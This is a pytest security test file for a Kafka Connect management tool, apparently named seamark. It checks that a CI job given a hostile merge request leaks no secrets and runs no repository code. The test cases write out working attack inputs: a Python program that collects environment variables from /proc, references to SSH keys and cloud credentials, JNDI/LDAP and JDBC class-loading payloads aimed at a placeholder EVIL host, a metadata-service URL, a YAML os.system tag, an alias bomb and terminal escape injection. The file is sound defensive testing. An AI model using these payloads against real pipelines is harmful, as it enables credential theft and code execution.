"""Merge requests against a CI job that plans or applies them: the job reads and sends only what its own context allows.

Each case is a repository as its author can leave it. The job has a contexts file of its own, secrets in its environment
and in its home folder, a Connect cluster with a password and brokers. The author has a server that is waiting.
"""

from __future__ import annotations

import io
import json
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

import seamark.context.search
from seamark.changes.plan import _hash
from seamark.cli.main import execute
from seamark.cli.session import Session
from seamark.context import open_context
from seamark.fleet.fleet import Fleet
from tests.fakes.connect import S3_SINK, FakeConnect
from tests.unit.changes.brokers import FakeBrokers
from tests.unit.cli.stubs import Outcome
from tests.unit.fleet.builders import EmptyScan, StubKafka

JDBC = {
    "connector.class": "io.aiven.connect.jdbc.JdbcSourceConnector",
    "connection.url": "jdbc:postgresql://db.example/shop",
    "topic.prefix": "t",
    "mode": "bulk",
}
SINK = {"connector.class": S3_SINK, "topics": "t", "tasks.max": "1"}
CANARY = "canary-7f3e"
# Under names that people give to secrets; the values look like nothing in particular.
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": f"{CANARY}-aws",
    "KAFKA_PASSWORD": f"{CANARY}-kafka",
    "CONNECT_PASSWORD": f"{CANARY}-connect",
    "PGPASSWORD": f"{CANARY}-postgres",
}
USER_FILE = """\
current: prod
commands: {{vault: [cat, '{home}/vault.txt']}}
contexts:
  prod:
    insecure: true
    journal: file
    journal_folder: '{home}/journal'
    kafka: {{bootstrap.servers: 'kafka.job:9093', security.protocol: SASL_SSL, sasl.mechanism: PLAIN,
            sasl.username: ci, sasl.password: secret://env/KAFKA_PASSWORD}}
    connect:
      game: {{urls: '{url}', username: ci, password: secret://env/CONNECT_PASSWORD, group_id: workers,
             offsets_topic: offsets}}
  guarded:
    protected: true
    insecure: true
    journal: file
    kafka: {{bootstrap.servers: 'kafka.job:9093'}}
    connect: {{game: {{urls: '{url}', username: ci, password: secret://env/CONNECT_PASSWORD, group_id: workers}}}}
  looking:
    read_only: true
    insecure: true
    journal: file
    kafka: {{bootstrap.servers: 'kafka.job:9093'}}
    connect: {{game: {{urls: '{url}', username: ci, password: secret://env/CONNECT_PASSWORD, group_id: workers}}}}
  team:
    roles: {{readers: {{principals: ['User:ci'], allow: [read]}}}}
    insecure: true
    journal: file
    kafka: {{bootstrap.servers: 'kafka.job:9093'}}
    connect: {{game: {{urls: '{url}', username: ci, password: secret://env/CONNECT_PASSWORD, group_id: workers}}}}
"""
VALIDATE = f"/connector-plugins/{S3_SINK}/config/validate"


class Listener:
    """The author's server: keeps everything that is sent to it."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self._server = socket.create_server(("127.0.0.1", 0))
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self._server.getsockname()[1]}"

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._server.accept()
            except OSError:
                return
            connection.settimeout(2)
            try:
                self.received.append(connection.recv(65536))
                connection.sendall(b"HTTP/1.1 403 no\r\ncontent-length: 0\r\n\r\n")
            except OSError:
                pass
            connection.close()

    def close(self) -> None:
        self._server.close()


@dataclass
class Job:
    """One run of CI: the checkout of a merge request, and the machine around it."""

    repository: Path
    home: Path
    connect: FakeConnect
    listener: Listener
    kafka_configs: list[dict[str, str]] = field(default_factory=list)
    looked_up: list[str] = field(default_factory=list)

    def write(self, name: str, content: Any) -> Path:
        """Put a file into the repository."""
        path = self.repository / name
        path.parent.mkdir(parents=True, exist_ok=True)
        text = content if isinstance(content, str) else json.dumps(content)
        path.write_text(text.replace("EVIL", self.listener.address).replace("HOME", str(self.home)))
        return path

    def write_spec(self, config: dict[str, Any], *, name: str = "a") -> Path:
        """Put a connector into the repository."""
        return self.write("specs/a.json", {"name": name, "config": config})

    def link(self, name: str, target: Path) -> Path:
        """Put a link into the repository."""
        path = self.repository / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
        return path

    def run(self, *argv: str) -> Outcome:
        """Run seamark as the job does, from the repository."""
        out, err = io.StringIO(), io.StringIO()
        session = Session(out=out, err=err, stdin=io.StringIO(), open_fleet=self._open_fleet)
        code = execute(argv, session=session)
        return Outcome(code, out.getvalue(), err.getvalue())

    def _open_fleet(self, name: str | None) -> Fleet:
        return Fleet(
            open_context(name),
            build_kafka=self._build_kafka,
            build_brokers=lambda _: FakeBrokers(),
            open_scan=lambda _, topic, __: EmptyScan(topic),
        )

    def _build_kafka(self, settings: Any) -> StubKafka:
        self.kafka_configs.append(dict(settings.client_config()))
        return StubKafka()

    def save_plan(self) -> dict[str, Any]:
        """Save a plan that pauses a connector, as a job before this one did, and return its file's content."""
        ended = self.run("connectors", "pause", "orders", "--out", "plan.json")
        assert ended.code == 0, ended.err
        body: dict[str, Any] = json.loads((self.repository / "plan.json").read_text())
        return body

    def write_plan(self, body: dict[str, Any]) -> None:
        """Put a plan file into the repository, with the hash that belongs to its content."""
        content = {key: value for key, value in body.items() if key != "sha256"}
        self.write("plan.json", {**content, "sha256": _hash(content)})


@pytest.fixture(scope="module")
def connect() -> Iterator[FakeConnect]:
    with FakeConnect(username="ci", password=SECRETS["CONNECT_PASSWORD"]) as made:
        yield made


@pytest.fixture
def job(tmp_path, monkeypatch, connect) -> Iterator[Job]:
    home, repository = tmp_path / "home", tmp_path / "checkout"
    for folder in (home / ".ssh", home / "config" / "seamark", repository / ".git"):
        folder.mkdir(parents=True)
    for name in ("vault.txt", ".ssh/id_rsa", ".pgpass"):
        (home / name).write_text(f"{CANARY}-{name}\n")
    (home / "secrets.properties").write_text(f"password={CANARY}-file\nurls={CANARY}\n")
    (home / "spec.json").write_text(json.dumps({"name": "x", "config": {**SINK, "topics": CANARY}}))
    (home / "_defaults.yaml").write_text(f"defaults: {{topics: {CANARY}}}\n")
    url = connect.urls[0]
    (home / "config" / "seamark" / "config.yaml").write_text(USER_FILE.format(url=url, home=home))
    (home / "config" / "seamark" / "config.yaml").chmod(0o600)
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    for name, folder in (("HOME", home), ("XDG_CONFIG_HOME", home / "config"), ("XDG_STATE_HOME", home / "state")):
        monkeypatch.setenv(name, str(folder))
    monkeypatch.setattr(seamark.context.search, "SYSTEM_DIR", tmp_path / "etc")
    monkeypatch.chdir(repository)
    connect.state.connectors.clear()
    connect.add_connector("orders", SINK)
    connect.requests.clear()
    listener = Listener()
    made = Job(repository, home, connect, listener)
    look_up = socket.getaddrinfo

    def note(host: Any, *rest: Any, **more: Any) -> Any:
        made.looked_up.append(str(host))
        return look_up(host, *rest, **more)

    monkeypatch.setattr(socket, "getaddrinfo", note)
    yield made
    listener.close()


@dataclass(frozen=True)
class Case:
    """What a merge request changes, the command of the job, and how that ends: `said` is part of what is printed."""

    name: str
    prepare: Callable[[Job], Any]
    said: str
    argv: tuple[str, ...] = ("plan", "-f", "specs", "--context", "prod")
    code: int | None = None


CASES: list[Case] = []


def case(said: str, *argv: str, code: int | None = None) -> Callable[[Callable[[Job], Any]], Callable[[Job], Any]]:
    """Add a case under the name of the function that prepares the repository."""

    def add(prepare: Callable[[Job], Any]) -> Callable[[Job], Any]:
        more: dict[str, Any] = {"argv": argv} if argv else {}
        CASES.append(Case(prepare.__name__, prepare, said, code=code, **more))
        return prepare

    return add


def apply(context: str = "prod") -> tuple[str, ...]:
    return ("apply", "-f", "specs", "--context", context, "--yes")


APPLY_PLAN = ("apply", "plan.json", "--context", "prod", "--yes")

# --- specs: what they name is read by the job or by the worker


@case("secret://file/")
def spec_names_a_file_of_the_job(job):
    job.write_spec(JDBC | {"connection.user": "secret://file/HOME/.ssh/id_rsa"})


@case("secret://file/")
def spec_climbs_out_of_the_repository(job):
    job.write_spec(JDBC | {"connection.user": "secret://file/../home/.ssh/id_rsa"})


@case("secret://env/")
def spec_names_a_variable_of_the_job(job):
    job.write_spec(JDBC | {"connection.user": "secret://env/AWS_SECRET_ACCESS_KEY"})


@case("secret://command/")
def spec_runs_a_command_of_the_job(job):
    job.write_spec(JDBC | {"connection.user": "secret://command/vault"})


@case("appears to be a secret")
def spec_fills_in_a_secret_variable(job):
    text = (
        "connectors:\n  a:\n    config: {connector.class: x.Y, url: 'http://EVIL/${{ env.AWS_SECRET_ACCESS_KEY }}'}\n"
    )
    job.write("specs/a.yaml", text)


@case("appears to be a secret")
def defaults_fill_in_a_secret_variable(job):
    job.write("specs/_defaults.yaml", "cluster: '${{ env.KAFKA_PASSWORD }}'\n")
    job.write_spec(SINK)


@case("P011")
def spec_names_a_file_of_the_worker(job):
    job.write_spec(SINK | {"x": "${file:/etc/kafka/connect-distributed.properties:sasl.jaas.config}"})


@case("P012")
def spec_names_a_variable_of_the_worker(job):
    job.write_spec(SINK | {"x": "${env:AWS_SECRET_ACCESS_KEY}"})


@case("P006")
def spec_loads_a_jndi_login(job):
    login = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://EVIL/x";'
    job.write_spec(SINK | {"producer.override.sasl.jaas.config": login})


@case("P014")
def spec_loads_a_class_by_its_jdbc_url(job):
    job.write_spec(JDBC | {"connection.url": "jdbc:postgresql://EVIL/d?socketFactory=com.evil.Factory"})


@case("P005")
def spec_sends_the_worker_to_other_brokers(job):
    job.write_spec(SINK | {"consumer.override.bootstrap.servers": "EVIL"})


@case("P016")
def spec_runs_a_script_in_the_worker(job):
    transform = {"transforms": "f", "transforms.f.type": "io.debezium.transforms.Filter"}
    job.write_spec(SINK | transform | {"transforms.f.condition": "'id'.execute()"})


@case("P017")
def spec_asks_the_metadata_service(job):
    job.write_spec(SINK | {"http.url": "http://169.254.169.254/latest/meta-data/iam/"})


@case("P001")
def spec_has_a_name_that_is_another_path(job):
    job.write_spec(SINK, name="../../admin/loggers/root?level=TRACE")


@case("P001")
def spec_has_a_name_that_clears_the_terminal(job):
    job.write_spec(SINK, name="\x1b[2J\x1b[Hnothing to do\u202e")


# --- specs: files that are no files of the repository, or too much of it


@case("target is outside of the folder")
def spec_is_a_link_to_a_file_of_the_job(job):
    job.link("specs/a.json", job.home / "spec.json")


@case("target is outside of the folder")
def spec_folder_is_a_link_out_of_the_repository(job):
    job.write_spec(SINK)
    job.link("specs/more", job.home)


@case("target is outside of the folder")
def defaults_are_a_link_out_of_the_repository(job):
    job.link("specs/_defaults.yaml", job.home / "_defaults.yaml")
    job.write("specs/a.yaml", f"connectors: {{a: {{config: {json.dumps(SINK)}}}}}\n")


@case("target is outside of the folder")
def spec_is_a_device(job):
    job.link("specs/a.json", Path("/dev/zero"))


@case("more than 33554432 bytes")
def spec_is_larger_than_memory(job):
    path = job.write_spec(SINK)
    with path.open("r+b") as file:
        file.truncate(8 << 30)


@case("aliases expanded")
def spec_is_a_bomb_of_aliases(job):
    lines = ["a0: &a0 [x, x]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 40)]
    job.write("specs/a.yaml", "\n".join([*lines, "connectors: *a39"]) + "\n")


@case("tags are not supported")
def spec_builds_python_objects(job):
    job.write("specs/a.yaml", "connectors: !!python/object/apply:os.system ['touch ran']\n")


@case("nested more than")
def spec_is_nested_without_an_end(job):
    job.write("specs/a.json", '{"name": "a", "config": ' + "[" * 200_000)


# --- programs

STEAL = """\
import glob, json, os, socket
from seamark.specs import connector

def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1_000_000).decode("utf-8", "replace")
    except OSError:
        return ""

open("ran", "w").close()

def resources(env):
    found = {**os.environ, **{name: env.get(name) for name in env}}
    found["parent"] = read(f"/proc/{os.getppid()}/environ") + read(f"/proc/{os.getppid()}/cmdline")
    found["others"] = "".join(map(read, glob.glob("/proc/[0-9]*/environ")))
    yield connector("a", {"connector.class": "CLASS", "topics": json.dumps(found)})
""".replace("CLASS", S3_SINK)


@case("is a program")
def program_is_run_unasked(job):
    job.write("specs/a.py", STEAL)


@case("is a program")
def project_file_allows_its_programs(job):
    job.write("seamark.yaml", "contexts: {prod: {policy: {python: true}}}\n")
    job.write("specs/a.py", STEAL)


@case("connector/game/a", "plan", "-f", "specs", "--context", "prod", "--allow-python", "-o", "wide", code=0)
def program_that_is_allowed_looks_for_secrets(job):
    job.write("specs/a.py", STEAL.replace('open("ran", "w").close()\n', ""))


@case("appears to be a secret", "plan", "-f", "specs", "--context", "prod", "--allow-python")
def program_asks_for_a_secret_variable(job):
    config = "{'x': env['KAFKA_PASSWORD']}"
    text = f"from seamark.specs import connector\n\ndef resources(env):\n    yield connector('a', {config})\n"
    job.write("specs/a.py", text)


# --- the project file


def project(job: Job, text: str, *, context: str = "prod") -> None:
    job.write("seamark.yaml", f"contexts: {{{context}: {{{text}}}}}\n")
    job.write_spec(SINK)


@case("connect.game.urls is set in a less trusted place")
def project_file_sends_the_password_of_connect_elsewhere(job):
    project(job, "connect: {game: {urls: 'http://EVIL'}}")


@case("kafka.bootstrap.servers is set in a less trusted place")
def project_file_sends_the_password_of_kafka_elsewhere(job):
    project(job, "kafka: {bootstrap.servers: EVIL}")


@case("is set in a less trusted place")
def project_file_takes_encryption_away(job):
    project(job, "kafka: {security.protocol: SASL_PLAINTEXT}")


@case("is set in a less trusted place")
def project_file_trusts_another_authority(job):
    job.write("ca.pem", "x")
    project(job, "connect: {game: {ca_file: ca.pem}}")


@case("is set in a less trusted place")
def project_file_sends_debug_output_of_the_client(job):
    project(job, "kafka: {debug: all}")


@case("secret://env/")
def project_file_allows_references(job):
    project(job, "policy: {references: ['secret://*']}")
    job.write_spec(JDBC | {"connection.user": "secret://env/AWS_SECRET_ACCESS_KEY"})


@case("allows more than the default")
def project_file_allows_every_client_override(job):
    project(job, "policy: {client_overrides: ['*']}")


@case("is protected", *apply("guarded"))
def project_file_takes_the_protection_away(job):
    project(job, "protected: false", context="guarded")


@case("read-only", *apply("looking"))
def project_file_allows_changes(job):
    project(job, "read_only: false", context="looking")


@case("roles", *apply("team"))
def project_file_gives_itself_a_role(job):
    project(job, "roles: {all: {principals: ['User:ci'], allow: [read, change-config, delete]}}", context="team")


@case("commands", "plan", "-f", "specs", "--context", "prod")
def project_file_defines_a_command(job):
    job.write("seamark.yaml", "commands: {vault: [touch, ran]}\n")
    job.write_spec(JDBC | {"connection.user": "secret://command/vault"})


@case("connector/game/a", code=0)
def project_file_reads_a_file_of_the_job_as_worker_config(job):
    project(job, "connect: {game: {worker_config: 'HOME/secrets.properties'}}")


@case("is set in a less trusted place", "plan", "-f", "specs")
def project_file_brings_a_context_with_a_secret_of_the_job(job):
    job.write(
        "seamark.yaml",
        "current: evil\ncontexts: {evil: {insecure: true, connect: {game: {urls: 'http://EVIL', username: a, "
        "password: secret://env/CONNECT_PASSWORD}}}}\n",
    )
    job.write_spec(SINK)


@case("less trusted place")
def project_file_sends_the_password_of_postgres_elsewhere(job):
    project(job, "databases: {shop: {jdbc_url: 'jdbc:postgresql://EVIL/x', dsn: 'host=127.0.0.1 user=ci'}}")


@case("less trusted place")
def project_file_sends_the_keys_of_the_cloud_elsewhere(job):
    project(job, "lakes: {lake: {url: 's3://x', endpoint: 'http://EVIL'}}")


@case("must have keys")
def project_file_is_a_link_to_a_file_of_the_job(job):
    job.link("seamark.yaml", job.home / "secrets.properties")
    job.write_spec(SINK)


@case("connector/game/a", code=0)
def dotenv_file_names_another_contexts_file(job):
    job.write("evil.yaml", "current: evil\ncontexts: {evil: {connect: {game: {urls: 'http://EVIL'}}}}\n")
    job.write(".env", "SEAMARK_CONFIG=evil.yaml\nSEAMARK_CONTEXT=evil\nHTTP_PROXY=http://EVIL\n")
    job.write_spec(SINK)


@case("was applied before", *APPLY_PLAN)
def project_file_brings_a_journal_from_before_the_plan_was_applied(job):
    job.save_plan()
    shutil.copytree(job.home / "journal", job.repository / "journal")
    assert job.run(*APPLY_PLAN).code == 0
    assert job.run("connectors", "resume", "orders", "--context", "prod", "--yes").code == 0
    job.write("seamark.yaml", "contexts: {prod: {journal_folder: journal, plan_ttl: 900h}}\n")


# --- plan files


@case("was edited", *APPLY_PLAN)
def plan_file_stops_instead_of_pausing(job):
    body = job.save_plan()
    body["actions"][0]["state"] = "STOPPED"
    job.write_plan(body)


@case("was edited", *APPLY_PLAN)
def plan_file_has_steps_of_its_own(job):
    body = job.save_plan()
    step = {"kind": "delete-connector", "subject": "connector/game/orders", "lane": "connector/game/orders"}
    job.write_plan({**body, "steps": [{**step, "arguments": {"cluster": "game", "name": "orders", "secret": []}}]})


@case("is not registered", *APPLY_PLAN)
def plan_file_was_written_by_hand(job):
    body = job.save_plan()
    job.write_plan({**body, "id": "01ARZ3NDEKTSV4RRFFQ69G5FAV"})


@case("proposal", *APPLY_PLAN)
def plan_file_without_a_registration(job):
    job.write_plan({**job.save_plan(), "id": ""})


@case("is for another Kafka cluster", *APPLY_PLAN)
def plan_file_is_for_another_cluster(job):
    body = job.save_plan()
    body["identity"]["kafka_cluster_id"] = "another"
    job.write_plan(body)


@case("was edited", *APPLY_PLAN)
def plan_file_has_a_reference_to_a_secret(job):
    body = job.save_plan()
    config = JDBC | {"connection.url": "jdbc:postgresql://EVIL/x", "connection.user": "secret://env/KAFKA_PASSWORD"}
    create = {"action": "create-connector", "cluster": "game", "name": "b", "config": config}
    job.write_plan({**body, "actions": [{**create, "state": "RUNNING", "secret": []}]})


@case("is not a plan", *APPLY_PLAN)
def plan_file_is_a_link_to_a_key(job):
    job.link("plan.json", job.home / ".ssh" / "id_rsa")


@case("too large", *APPLY_PLAN)
def plan_file_is_a_device(job):
    job.link("plan.json", Path("/dev/zero"))


@case("differs from the expected one", *apply(), "--expect", "plan.json")
def proposal_shows_less_than_the_spec_does(job):
    body = job.save_plan()
    job.write_plan(body)
    job.write_spec(SINK)


def test_there_are_enough_cases():
    assert len({one.name for one in CASES}) == len(CASES) >= 25


@pytest.mark.parametrize("one", CASES, ids=lambda one: one.name)
def test_hostile_merge_request(one, job):
    one.prepare(job)
    before = dict(job.connect.state.connectors)
    job.connect.requests.clear()
    job.kafka_configs.clear()
    ended = job.run(*one.argv)
    shown = ended.out + ended.err
    assert one.said in shown
    assert ended.code == one.code if one.code is not None else ended.code not in (0, 1)
    # Nothing of the job's secrets is shown, and no control sequence of the author.
    assert CANARY not in shown
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    # Connect gets its password by the header of its own, and nothing else of them. No worker is changed.
    assert CANARY not in repr([(seen.method, seen.path, seen.body) for seen in job.connect.requests])
    assert {seen.method for seen in job.connect.requests} <= {"GET", "PUT"}
    assert {seen.path for seen in job.connect.requests if seen.method == "PUT"} <= {VALIDATE}
    assert job.connect.state.connectors == before
    # The brokers are those of the job's own context, and the author's server hears nothing.
    assert {config["bootstrap.servers"] for config in job.kafka_configs} <= {"kafka.job:9093"}
    assert job.listener.received == []
    assert set(job.looked_up) <= {"127.0.0.1"}
    # No program and no command of the repository has run.
    assert not list(job.repository.rglob("ran"))


def test_context_of_the_repository_gets_nothing_of_the_job(job):
    """A project file may have contexts of its own, and be asked for them: they come without the job's secrets."""
    job.write("seamark.yaml", "current: evil\ncontexts: {evil: {connect: {game: {urls: 'http://EVIL'}}}}\n")
    job.write_spec(JDBC | {"connection.user": "secret://env/AWS_SECRET_ACCESS_KEY"})
    assert job.run("plan", "-f", "specs").code not in (0, 1)
    job.write_spec(SINK)
    ended = job.run("plan", "-f", "specs")
    assert ended.code not in (0, 1)
    assert job.listener.received
    assert all(CANARY.encode() not in sent and b"uthorization" not in sent for sent in job.listener.received)
    assert CANARY not in ended.out + ended.err
    assert list(job.connect.requests) == []
